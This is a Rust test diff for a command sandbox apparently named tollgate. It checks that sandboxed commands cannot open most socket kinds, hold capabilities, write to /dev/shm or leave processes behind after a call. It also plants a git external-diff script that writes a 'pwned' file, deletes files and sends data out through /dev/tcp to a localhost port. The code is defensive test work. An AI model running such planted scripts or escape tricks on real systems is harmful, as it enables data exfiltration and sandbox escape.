@@ -381,3 +381,252 @@ fn checks_run_confined_only_when_the_policy_says_so() {
     assert_eq!(run.code, 0, "{}", run.stdout);
     assert!(free.path().join("escaped.txt").exists());
 }
+
+/// Opens sockets of each kind and uses them: one line per probe, `NAME refused ERRNO`,
+/// `NAME failed ERRNO` (opened but could not be used) or `NAME OPEN`.
+const SOCKET_PROBE: &str = r#"
+import socket, sys
+tcp_allowed, tcp_other, udp = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
+def probe(name, family, kind, proto, use):
+    try:
+        s = socket.socket(family, kind, proto)
+    except OSError as e:
+        print(name, "refused", e.errno)
+        return
+    try:
+        use(s)
+        print(name, "OPEN")
+    except OSError as e:
+        print(name, "failed", e.errno)
+def connect(port):
+    def use(s):
+        s.settimeout(2)
+        s.connect(("127.0.0.1", port))
+        s.sendall(b"leak")
+    return use
+probe("mptcp", socket.AF_INET, socket.SOCK_STREAM, 262, connect(tcp_other))
+probe("mptcp6", socket.AF_INET6, socket.SOCK_STREAM | socket.SOCK_NONBLOCK, 262, lambda s: None)
+probe("udp", socket.AF_INET, socket.SOCK_DGRAM, 0, lambda s: s.sendto(b"leak", ("127.0.0.1", udp)))
+probe("icmp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, lambda s: s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("127.0.0.1", 0)))
+probe("packet", socket.AF_PACKET, socket.SOCK_RAW, 0x0300, lambda s: s.bind(("lo", 0)))
+probe("netlink_audit", socket.AF_NETLINK, socket.SOCK_RAW, 9, lambda s: None)
+probe("vsock", socket.AF_VSOCK, socket.SOCK_STREAM, 0, lambda s: None)
+probe("tcp", socket.AF_INET, socket.SOCK_STREAM, 0, connect(tcp_allowed))
+probe("unix", socket.AF_UNIX, socket.SOCK_STREAM, 0, lambda s: None)
+"#;
+
+/// Whether `python3` runs here; the socket tests need it to make the system calls.
+fn python_missing() -> bool {
+    let found = std::process::Command::new("python3")
+        .arg("-c")
+        .arg("pass")
+        .status()
+        .is_ok_and(|status| status.success());
+    if !found {
+        eprintln!("FAILED PRECONDITION: python3 is not installed; the socket tests need it");
+    }
+    !found
+}
+
+#[test]
+fn network_none_admits_no_socket_but_tcp_to_allowed_ports_and_unix() {
+    if landlock_missing() {
+        return;
+    }
+    assert!(!python_missing(), "python3 is needed (install it in .ci/run)");
+    let (allowed, allowed_port) = listener();
+    let (other, other_port) = listener();
+    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    let udp_port = udp.local_addr().unwrap().port();
+    let scene = Scene::new(&format!(
+        "sandbox:\n  network: {{mode: none, allowed_ports: [{allowed_port}]}}\n"
+    ));
+    std::fs::write(scene.path().join("ws/src/probe.py"), SOCKET_PROBE).unwrap();
+    let run = scene.run(
+        &[&format!(
+            "python3 src/probe.py {allowed_port} {other_port} {udp_port}"
+        )],
+        &[],
+    );
+    let results = results(&run);
+    let out = &results[0].1;
+    for refused in [
+        "mptcp", "mptcp6", "udp", "icmp", "packet", "netlink_audit", "vsock",
+    ] {
+        assert!(
+            out.contains(&format!("{refused} refused {}", libc::EACCES)),
+            "{refused}: {out}"
+        );
+    }
+    assert!(out.contains("tcp OPEN"), "{out}");
+    assert!(out.contains("unix OPEN"), "{out}");
+    other.set_nonblocking(true).unwrap();
+    assert!(other.accept().is_err(), "a listener no rule allows was reached");
+    udp.set_nonblocking(true).unwrap();
+    assert!(udp.recv(&mut [0u8; 16]).is_err(), "a UDP datagram got out");
+    drop(allowed);
+}
+
+#[test]
+fn network_none_without_ports_admits_no_internet_socket_at_all() {
+    if landlock_missing() {
+        return;
+    }
+    assert!(!python_missing(), "python3 is needed (install it in .ci/run)");
+    let (listener, port) = listener();
+    let scene = Scene::new("sandbox:\n  network: {mode: none}\n");
+    std::fs::write(scene.path().join("ws/src/probe.py"), SOCKET_PROBE).unwrap();
+    let run = scene.run(&[&format!("python3 src/probe.py {port} {port} {port}")], &[]);
+    let out = &results(&run)[0].1;
+    assert!(out.contains(&format!("tcp refused {}", libc::EACCES)), "{out}");
+    assert!(out.contains("unix OPEN"), "{out}");
+    listener.set_nonblocking(true).unwrap();
+    assert!(listener.accept().is_err());
+}
+
+#[test]
+fn sandboxed_commands_have_no_capability_even_as_root() {
+    if landlock_missing() {
+        return;
+    }
+    let scene = Scene::new("sandbox: {}\n");
+    let run = scene.run(&["exec grep ^Cap /proc/self/status"], &[]);
+    let (failed, out) = &results(&run)[0];
+    assert!(!failed, "{out}");
+    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        assert!(
+            out.lines()
+                .any(|line| line.starts_with(set) && line.ends_with("0000000000000000")),
+            "{set}: {out}"
+        );
+    }
+}
+
+#[test]
+fn dev_shm_is_not_a_place_to_write() {
+    if landlock_missing() {
+        return;
+    }
+    let scene = Scene::new("sandbox: {}\n");
+    let name = format!("/dev/shm/tollgate-test-{}", std::process::id());
+    let run = scene.run(&[&format!("f={name}; echo x > \"$f\"")], &[]);
+    assert!(refused(&results(&run)[0]), "{:?}", results(&run));
+    assert!(!Path::new(&name).exists());
+}
+
+#[test]
+fn nothing_outlives_a_call_without_a_pids_cgroup() {
+    if landlock_missing() {
+        return;
+    }
+    let scene = Scene::new("sandbox: {}\n");
+    let run = scene.run(
+        &[
+            "setsid sh -c 'sleep 2; echo x > src/marker' </dev/null >/dev/null 2>&1 & echo started",
+            // A helper that leaves the group and holds stdout: the output before it stays.
+            "echo produced; setsid sh -c 'sleep 30' &",
+        ],
+        &[(tollgate::sandbox::NO_CGROUP_ENV, "1")],
+    );
+    let started = &run.events()[0];
+    assert_eq!(
+        started["sandbox"]["process_limit"]["via"], "rlimit",
+        "{started}"
+    );
+    let results = results(&run);
+    assert_eq!(results[0], (false, "started".to_string()));
+    assert_eq!(results[1], (false, "produced".to_string()));
+    std::thread::sleep(std::time::Duration::from_secs(3));
+    assert!(
+        !scene.path().join("ws/src/marker").exists(),
+        "a process outlived its call and wrote after the run"
+    );
+}
+
+/// A real repository in the scene's workspace whose `.git/config` names an external diff
+/// program (`ext.sh`): `git diff` is judged read-only, and git runs the planted program.
+fn plant_external_diff(scene: &Scene, port: u16) {
+    let ws = scene.path().join("ws");
+    std::fs::remove_dir_all(ws.join(".git")).unwrap();
+    std::fs::write(ws.join("f.txt"), "a\n").unwrap();
+    std::fs::write(ws.join("README.md"), "keep me\n").unwrap();
+    let git = |args: &[&str]| {
+        let status = std::process::Command::new("git")
+            .args(["-c", "user.email=t@t", "-c", "user.name=t"])
+            .args(args)
+            .current_dir(&ws)
+            .output()
+            .unwrap();
+        assert!(status.status.success(), "git {args:?}: {status:?}");
+    };
+    git(&["init", "-q"]);
+    git(&["add", "f.txt", "README.md"]);
+    git(&["commit", "-qm", "init"]);
+    std::fs::write(ws.join("f.txt"), "b\n").unwrap();
+    let script = format!(
+        "#!/bin/bash\necho planted > pwned\nrm -f README.md\nmv f.txt moved\nmkdir made\nexec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3\n"
+    );
+    std::fs::write(ws.join("ext.sh"), script).unwrap();
+    std::fs::set_permissions(
+        ws.join("ext.sh"),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    git(&["config", "diff.external", "./ext.sh"]);
+}
+
+#[test]
+fn a_wrong_read_only_verdict_cannot_write_delete_rename_or_connect() {
+    if tollgate::sandbox::kernel_abi() < 3 {
+        eprintln!("skipped: the read-only domain needs Landlock ABI 3");
+        return;
+    }
+    let (listener, port) = listener();
+    listener.set_nonblocking(true).unwrap();
+    // No sandbox block at all: the read-only domain is on by default.
+    let scene = Scene::with_policy("permissions:\n  default_mode: dontAsk\n", "dontAsk");
+    plant_external_diff(&scene, port);
+    let run = scene.run(&["git diff"], &[]);
+    let decision = run
+        .events()
+        .into_iter()
+        .find(|event| event["type"] == "permission_decision")
+        .unwrap();
+    assert_eq!(decision["decision"], "allow", "{decision}");
+    assert_eq!(decision["step"], "1c", "{decision}");
+    let ws = scene.path().join("ws");
+    let (_, out) = &results(&run)[0];
+    assert!(out.contains("Permission denied"), "{out}");
+    assert!(!ws.join("pwned").exists(), "{out}");
+    assert!(!ws.join("made").exists(), "{out}");
+    assert!(!ws.join("moved").exists(), "{out}");
+    assert!(ws.join("f.txt").exists() && ws.join("README.md").exists());
+    assert!(listener.accept().is_err(), "the planted program connected");
+    let started = &run.events()[0];
+    assert_eq!(started["read_only_commands"]["enforced"], true, "{started}");
+    assert!(
+        run.stdout.contains("read-only commands: kernel-enforced"),
+        "{}",
+        run.stdout
+    );
+    assert!(
+        run.step_summary.contains("| Read-only commands | 🔒"),
+        "{}",
+        run.step_summary
+    );
+
+    // Turned off, the same verdict is the analyser's word alone: the planted program writes.
+    let off = Scene::with_policy(
+        "permissions:\n  default_mode: dontAsk\nsandbox: {enabled: false, read_only_commands: off}\n",
+        "dontAsk",
+    );
+    plant_external_diff(&off, port);
+    let run = off.run(&["git diff"], &[]);
+    assert!(off.path().join("ws/pwned").exists(), "{}", run.stdout);
+    assert_eq!(run.events()[0]["read_only_commands"]["enforced"], false);
+    assert!(
+        run.stdout.contains("read-only commands: NOT enforced"),
+        "{}",
+        run.stdout
+    );
+}
